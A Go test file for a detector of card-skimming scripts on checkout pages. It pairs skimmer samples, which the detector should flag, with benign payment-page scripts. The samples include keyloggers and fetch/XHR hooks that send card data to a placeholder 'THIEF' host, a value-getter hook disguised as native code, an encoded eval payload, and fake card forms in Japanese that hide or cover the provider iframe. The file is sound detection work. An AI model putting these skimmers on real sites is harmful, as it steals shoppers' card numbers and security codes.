package page

import (
	"slices"
	"strings"
	"testing"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/demoshop"
)

var atProvider = demoshop.Checkout{Payment: demoshop.ProviderFrame}

// What a stranger's script does on the payment page is told by the listeners and the page alone.
func TestWhoGetsAtTheCard(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		lines    string
		checkout demoshop.Checkout
		rule     string
		severity tillwatch.Severity
		names    string // part of the summary or the evidence
	}{
		"a logger of keys": {`
document.addEventListener('keydown', e => {
  if (/card|cvc|exp/.test(e.target.name)) new Image().src = 'THIEF/p.gif?k=' + encodeURIComponent(e.key) + '&n=' + e.target.name + '&t=' + Math.random();
}, true);`, demoshop.Checkout{}, "page/card-field-read", tillwatch.High, "menu.js"},
		"a poller that keeps what it finds": {`
setInterval(() => {
  const get = n => document.querySelector('[name="' + n + '"]');
  if (get('cardnumber') && get('cvc')) window.found = [get('cardnumber').value, get('cvc').value].join();
}, 300);`, demoshop.Checkout{}, "page/card-field-read", tillwatch.Medium, "menu.js"},
		"code out of text": {
			`
eval(atob('` + "ZG9jdW1lbnQuYWRkRXZlbnRMaXN0ZW5lcignY2hhbmdlJywgZSA9PiB7IHdpbmRvdy5rZXB0ID0gKHdpbmRvdy5rZXB0IHx8ICcnKSArIGUudGFyZ2V0LnZhbHVlOyB9KTs=" + `'));`,
			demoshop.Checkout{},
			"page/card-field-read", tillwatch.Medium, "menu.js",
		},
		"fetch with a copy": {`
const plain = window.fetch;
window.fetch = function (input, init) {
  if (init && init.body) navigator.sendBeacon('THIEF/b', btoa(unescape(encodeURIComponent(init.body))));
  return plain.apply(this, arguments);
};`, demoshop.Checkout{PlaceBy: demoshop.Fetch}, "page/native-hooked", tillwatch.High, "fetch"},
		"a request with an encrypted copy": {`
const send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  if (body && body.length > 40) {
    const key = crypto.getRandomValues(new Uint8Array(16));
    const text = Array.from(String(body).slice(-200), (c, i) => String.fromCharCode((c.charCodeAt(0) ^ key[i % 16] ^ i * 7) & 255)).join('');
    new Image().src = 'THIEF/i.gif?d=' + encodeURIComponent(btoa(text));
  }
  return send.apply(this, arguments);
};`, demoshop.Checkout{PlaceBy: demoshop.XHR}, "page/native-hooked", tillwatch.Medium, "XMLHttpRequest.prototype.send"},
		"a getter of its own": {
			`
const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
Object.defineProperty(HTMLInputElement.prototype, 'value', {...native, get() { const v = native.get.call(this); (window.kept ||= {})[this.name] = v; return v; }});`,
			demoshop.Checkout{},
			"page/native-hooked", tillwatch.Medium, "HTMLInputElement.prototype.value",
		},
		"a getter that hides": {`
const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
const get = function () { const v = native.get.call(this); (window.kept ||= {})[this.name] = v; return v; };
get.toString = () => 'function get value() { [native code] }';
Object.defineProperty(HTMLInputElement.prototype, 'value', {...native, get});`, demoshop.Checkout{}, "page/native-hooked", tillwatch.High, "HTMLInputElement.prototype.value"},
		"the provider's own function": {`
const mount = PayFields.mount;
PayFields.mount = function (element, options) { window.mounted = options; return mount(element, options); };`, atProvider, "page/native-hooked", tillwatch.High, "PayFields.mount"},
		"a form in the place of the frame": {`
addEventListener('load', () => {
  const frame = document.querySelector('iframe[title=card]');
  if (!frame) return;
  const box = document.createElement('div');
  box.innerHTML = '<p><label>カード番号 <input name="ccn" inputmode="numeric"></label></p><p><label>有効期限 <input name="ccx"></label> <label>セキュリティコード <input name="ccv"></label></p>';
  frame.before(box);
  frame.style.display = 'none';
});`, atProvider, "page/fake-form", tillwatch.High, "menu.js"},
		"nothing to see over the frame": {`
addEventListener('load', () => {
  const frame = document.querySelector('iframe[title=card]');
  if (!frame) return;
  const box = document.createElement('div');
  const at = frame.getBoundingClientRect();
  box.style = 'position:absolute;opacity:0;z-index:9;left:' + (at.left + scrollX) + 'px;top:' + (at.top + scrollY) + 'px;width:' + at.width + 'px;height:' + at.height + 'px';
  box.innerHTML = '<input name="cc-number" autocomplete="cc-number" style="width:100%;height:100%">';
  document.body.append(box);
});`, atProvider, "page/fake-form", tillwatch.High, "hidden or covered"},
		"a form that comes with the last button": {`
addEventListener('submit', e => {
  if (!document.querySelector('iframe[title=card]') || window.asked) return;
  window.asked = true;
  e.preventDefault();
  e.stopImmediatePropagation();
  const box = document.createElement('div');
  box.style = 'position:fixed;inset:20%;background:#fff;z-index:99';
  box.innerHTML = '<p>エラーが発生しました。もう一度入力してください。</p><label>カード番号 <input name="again1"></label><label>セキュリティコード <input name="again2"></label>';
  document.body.append(box);
}, true);`, atProvider, "page/fake-form", tillwatch.High, "once more"},
		"a form and no frame any more": {`
const timer = setInterval(() => {
  const frame = document.querySelector('iframe[title=card]');
  if (!frame) return;
  clearInterval(timer);
  frame.outerHTML = '<p><label>カード番号 <input name="ccn" inputmode="numeric"></label></p><p><label>有効期限 <input name="ccx"></label> <label>セキュリティコード <input name="ccv"></label></p>';
}, 50);`, atProvider, "page/fake-form", tillwatch.Medium, "menu.js"},
	} {
		if !everyVariant && slices.Contains([]string{
			"a getter of its own", "a form and no frame any more", "a poller that keeps what it finds", "the provider's own function",
			"a request with an encrypted copy", "nothing to see over the frame", "fetch with a copy",
		}, name) {
			continue
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			shop := tamperedShop(t, c.lines, c.checkout)
			signs, _, _ := observe(t, Config{Layers: "L", Authorised: []string{"pay.localhost"}}, shop.URL("shop.localhost"))
			for _, s := range signs {
				text := s.Summary
				for _, e := range s.Evidence {
					text += " " + e.What + " " + e.Where
				}
				if s.Rule == c.rule && s.Severity >= c.severity && strings.Contains(text, c.names) {
					return
				}
			}
			t.Errorf("no %v %s that names %s in %+v", c.severity, c.rule, c.names, signs)
		})
	}
}

// What honest shops do with their payment page stays at or below low.
func TestHonestScriptsOfPaymentPages(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		lines    string
		checkout demoshop.Checkout
	}{
		"a replay of the session": {`
const mask = text => '*'.repeat(text.length), seen = [];
for (const type of ['input', 'change', 'keydown', 'click']) {
  document.addEventListener(type, e => seen.push([type, e.target.name, e.target.value === undefined ? '' : mask(e.target.value)]), true);
}
setInterval(() => seen.length && fetch('THIEF/replay', {method: 'POST', body: JSON.stringify(seen.splice(0))}), 400);`, demoshop.Checkout{}},
		"an error tracker": {`
const plain = window.fetch, {open, send} = XMLHttpRequest.prototype;
window.fetch = function (input) { const began = performance.now(); return plain.apply(this, arguments).finally(() => plain('THIEF/t?ms=' + Math.round(performance.now() - began))); };
XMLHttpRequest.prototype.open = function (method, address) { this.noted = method + ' ' + address; return open.apply(this, arguments); };
XMLHttpRequest.prototype.send = function (body) { this.size = body ? body.length : 0; return send.apply(this, arguments); };
const listen = EventTarget.prototype.addEventListener;
EventTarget.prototype.addEventListener = function (type, f, o) { return listen.call(this, type, f, o); };
console.error = (e => function () { return e.apply(console, arguments); })(console.error);`, demoshop.Checkout{PlaceBy: demoshop.Fetch}},
		"a validator, and a wait for the end of typing": {`
document.querySelectorAll('input').forEach(i => i.addEventListener('blur', () => {
  const digits = i.value.replace(/\D/g, '');
  i.classList.toggle('bad', i.name === 'cardnumber' && digits.length < 14);
}));
const cvc = document.querySelector('[name=cvc]');
if (cvc) cvc.addEventListener('input', () => { cvc.value = cvc.value.replace(/\D/g, '').slice(0, 4); });
let timer;
document.addEventListener('input', e => {
  clearTimeout(timer);
  timer = setTimeout(function check() { e.target.title = e.target.value ? '' : '?'; }, 100);
});`, demoshop.Checkout{}},
		"a part of the checkout with its script": {`
$(function () {
  $('<div></div>').appendTo('form.checkout-form').html('<script>$("[name=cardnumber], [name=cvc]").on("input", function () { this.dataset.digits = this.value; })<\/script>');
  const own = document.createElement('script');
  own.textContent = 'document.addEventListener("input", e => { if (e.target.value) e.target.dataset.ok = e.target.value; })';
  document.body.appendChild(own);
});`, demoshop.Checkout{}},
		"a provider's frame":  {`PayFields && (PayFields.onReady = () => 1);`, atProvider},
		"one page of scripts": {`window.siteSettings = {theme: 'tea', open() {}};`, demoshop.Checkout{Flow: demoshop.SinglePage}},
	} {
		if !everyVariant && slices.Contains([]string{"a provider's frame", "an error tracker", "a part of the checkout with its script"}, name) {
			continue
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			shop := tamperedShop(t, c.lines, c.checkout)
			signs, _, _ := observe(t, Config{Layers: "L", Authorised: []string{"pay.localhost"}}, shop.URL("shop.localhost"))
			for _, s := range signs {
				if s.Severity > tillwatch.Low {
					t.Errorf("%+v", s)
				}
			}
		})
	}
}
